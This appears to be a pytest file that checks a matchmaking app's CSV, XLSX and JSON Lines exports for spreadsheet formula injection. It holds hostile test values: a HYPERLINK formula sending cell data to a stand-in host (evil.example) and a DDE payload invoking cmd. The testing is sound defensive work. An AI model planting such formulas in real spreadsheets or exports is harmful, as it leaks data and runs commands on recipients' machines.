"""No formula injection through any export: names, descriptions, contact details and notes starting like a
formula (= + - @, their full-width forms) come out with a leading apostrophe in every CSV and XLSX export
(responses, pairs, outcomes, suggestions; from the staff pages and from the command line), and no XLSX cell is
ever a formula. JSON Lines is data for programs, not a spreadsheet: values stay exactly as typed there."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from matchmaker.clock import today
from matchmaker.models import Collectivite
from matchmaker.spreadsheets import FORMULA_TRIGGERS
from tests.questionnaire.conftest import fr_record, kr_record
from tests.review import factories as f

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
HOSTILE = {
    "fr_name": HYPERLINK,
    "fr_description": "+33 1 23 45 67 89 — appelez-nous",
    "fr_contact": "-Jean Dupont",
    "fr_role": "@SUM(1+1)*cmd|' /C calc'!A0",
    "kr_name": "@Gwangmyeong",
    "kr_name_local": "＝광명시",  # full-width equals sign: Excel reads it as a formula too
    "kr_description": "-2+3 광명시는 수도권의 도시입니다.",
    "note": "=1+1 réunion",
}


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _unsafe_cells(cells) -> list[str]:
    """Text cells a spreadsheet would run as a formula."""
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_TRIGGERS) and not _is_number(c)]


def csv_cells(data: bytes) -> list[str]:
    """Every cell of a CSV export (UTF-8 with BOM)."""
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(data: bytes) -> list:
    """Every cell value of an XLSX export; fails on any formula cell."""
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    return values


@pytest.fixture
def hostile(app):
    """A French and a Korean response with formula-like texts, suggested, introduced, with an outcome."""
    from matchmaker.extensions import db
    from matchmaker.questionnaire.operations import import_records
    from matchmaker.review.operations import decide, record_outcome

    with app.app_context():
        report = import_records(
            [
                fr_record(
                    name=HOSTILE["fr_name"],
                    name_local=HOSTILE["fr_name"],
                    code=None,
                    description=HOSTILE["fr_description"],
                    contact_name=HOSTILE["fr_contact"],
                    contact_role=HOSTILE["fr_role"],
                    existing_partners=[],
                ),
                kr_record(
                    name=HOSTILE["kr_name"],
                    name_local=HOSTILE["kr_name_local"],
                    code=None,
                    level="si",
                    region="Gyeonggi",
                    description=HOSTILE["kr_description"],
                ),
            ],
            source="import",
        )
        assert report.imported == 2, report.summary()
        fr = db.session.scalar(select(Collectivite).where(Collectivite.country == "FR"))
        kr = db.session.scalar(select(Collectivite).where(Collectivite.country == "KR"))
        assert (fr.name, kr.name, kr.name_local) == (HOSTILE["fr_name"], HOSTILE["kr_name"], HOSTILE["kr_name_local"])
        pair = f.suggestion(fr, kr, reasons=[{"code": "shared_themes", "params": {"codes": ["smart_city"]}}])
        pair.is_current = True
        cuf = f.staff("CUF")
        decide(pair, cuf, "approve", HOSTILE["note"])
        decide(pair, f.staff("GAROK"), "approve")
        record_outcome(pair, cuf, "meeting", today(), HOSTILE["note"])
        email = cuf.email
        db.session.commit()
    return email


def _check_spreadsheet(cells: list, must_contain: set[str], label: str) -> None:
    assert _unsafe_cells(cells) == [], (label, _unsafe_cells(cells))
    for text in must_contain:
        assert "'" + text in cells, (label, text)


WEB_EXPORTS = {
    "/staff/responses/export.{fmt}": {
        HOSTILE["fr_name"],
        HOSTILE["fr_description"],
        HOSTILE["fr_contact"],
        HOSTILE["fr_role"],
        HOSTILE["kr_name"],
        HOSTILE["kr_name_local"],
        HOSTILE["kr_description"],
    },
    "/staff/export/pairs.{fmt}": {HOSTILE["fr_name"], HOSTILE["kr_name"], HOSTILE["kr_name_local"]},
    "/staff/export/outcomes.{fmt}": {HOSTILE["fr_name"], HOSTILE["kr_name"], HOSTILE["kr_name_local"], HOSTILE["note"]},
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("path", sorted(WEB_EXPORTS))
def test_staff_downloads_neutralise_formulas(app, client, hostile, path, fmt):
    f.login(client, hostile)
    response = client.get(path.format(fmt=fmt))
    assert response.status_code == 200 and response.headers["Content-Disposition"].startswith("attachment")
    cells = csv_cells(response.data) if fmt == "csv" else xlsx_cells(response.data)
    _check_spreadsheet(cells, WEB_EXPORTS[path], f"{path} {fmt}")


def test_responses_as_json_lines_keep_the_texts_exactly(app, client, hostile):
    f.login(client, hostile)
    rows = [
        json.loads(line) for line in client.get("/staff/responses/export.jsonl").get_data(as_text=True).splitlines()
    ]
    by_country = {row["country"]: row for row in rows}
    assert (
        by_country["FR"]["name"] == HOSTILE["fr_name"] and by_country["FR"]["description"] == HOSTILE["fr_description"]
    )
    assert by_country["KR"]["name_local"] == HOSTILE["kr_name_local"]


COMMANDS = {
    ("export", "responses"): {HOSTILE["fr_name"], HOSTILE["fr_description"], HOSTILE["kr_name_local"]},
    ("export", "pairs"): {HOSTILE["fr_name"], HOSTILE["kr_name"]},
    ("export", "outcomes"): {HOSTILE["fr_name"], HOSTILE["note"]},
    ("export", "suggestions"): {HOSTILE["fr_name"], HOSTILE["kr_name"], HOSTILE["kr_name_local"]},
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("command", sorted(COMMANDS))
def test_command_line_exports_neutralise_formulas(app, runner, hostile, tmp_path, command, fmt):
    output = tmp_path / f"export.{fmt}"
    result = runner.invoke(args=[*command, "--format", fmt, "--output", str(output)])
    assert result.exit_code == 0, result.output
    data = output.read_bytes()
    cells = csv_cells(data) if fmt == "csv" else xlsx_cells(data)
    _check_spreadsheet(cells, COMMANDS[command], f"{' '.join(command)} {fmt}")
